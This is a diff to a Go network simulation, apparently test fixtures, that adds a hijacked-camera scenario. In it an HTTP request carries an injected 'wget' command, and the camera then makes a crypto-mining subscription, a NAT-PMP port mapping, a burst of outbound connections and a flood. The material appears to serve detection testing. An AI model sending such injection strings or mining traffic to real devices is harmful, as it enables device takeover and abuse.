@@ -69,6 +69,13 @@ func everything(w *world, seed uint64) {
 		acts[r.IntN(len(acts))](i)
 		w.now = w.now.Add(time.Duration(r.Int64N(int64(200 * time.Millisecond))))
 	}
+	w.open(stranger, cam, 80).say("GET /x?y=1;wget%20x HTTP/1.0\r\n\r\n")
+	w.open(cam, command, 3333).say(`{"id": 1, "method": "mining.subscribe", "params": []}`)
+	w.dgram(cam, 4000, gateway, 5351, natPMP(2, 554, 3600))
+	for range 240 { // requests, for some seconds
+		w.open(cam, stranger, 8080)
+		w.now = w.now.Add(20 * time.Millisecond)
+	}
 	for i := range 30000 { // and one flood that lasts
 		w.dgram(cam, 5001, stranger, 81, "x")
 		w.now = w.now.Add(100 * time.Microsecond)
